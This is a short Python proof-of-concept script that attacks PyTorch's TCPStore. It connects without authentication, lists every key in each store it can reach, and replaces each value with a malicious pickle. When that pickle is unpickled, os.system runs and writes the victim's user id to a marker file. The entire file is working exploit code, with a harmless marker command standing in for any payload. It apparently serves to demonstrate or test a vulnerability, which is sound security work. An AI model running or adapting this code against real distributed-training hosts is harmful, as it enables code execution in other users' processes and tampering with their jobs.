"""What another user of the machine tries: a command of his in every store that he can reach.

    python stranger.py MARK ADDRESS:PORT ...

Speaks the language of torch's TCPStore: asks for the keys, which need no password, and puts a
pickle behind each. Whoever unpickles one writes his user id to the file MARK. Prints how many keys
were changed. Needs nothing but Python.
"""

import base64
import os
import pickle
import socket
import struct
import sys

VALIDATE = struct.pack("<BI", 0, 0x3C85F7CE)
SET = bytes([1])
LIST_KEYS = bytes([17])


class Command:
    """Unpickling it runs a command."""

    def __reduce__(self):
        return os.system, (f"id > {sys.argv[1]}",)


def sized(data):
    return struct.pack("<Q", len(data)) + data


def read(stream, size):
    data = stream.read(size)
    if len(data) < size:
        raise EOFError
    return data


def read_sized(stream):
    return read(stream, struct.unpack("<Q", read(stream, 8))[0])


def poison(address, port):
    """Put the command behind every key of the store at that address; how many there were."""
    payload = base64.b64encode(pickle.dumps(Command()))
    with socket.create_connection((address, port), 3) as connection:
        connection.settimeout(3)
        stream = connection.makefile("rwb")
        stream.write(VALIDATE + LIST_KEYS)
        stream.flush()
        keys = [read_sized(stream) for _ in range(struct.unpack("<Q", read(stream, 8))[0])]
        for key in keys:
            stream.write(SET + sized(key) + sized(payload))
        stream.flush()
        return len(keys)


changed = 0
for place in sys.argv[2:]:
    address, port = place.rsplit(":", 1)
    try:
        changed += poison(address, int(port))
    except (OSError, EOFError):
        continue
print(changed)
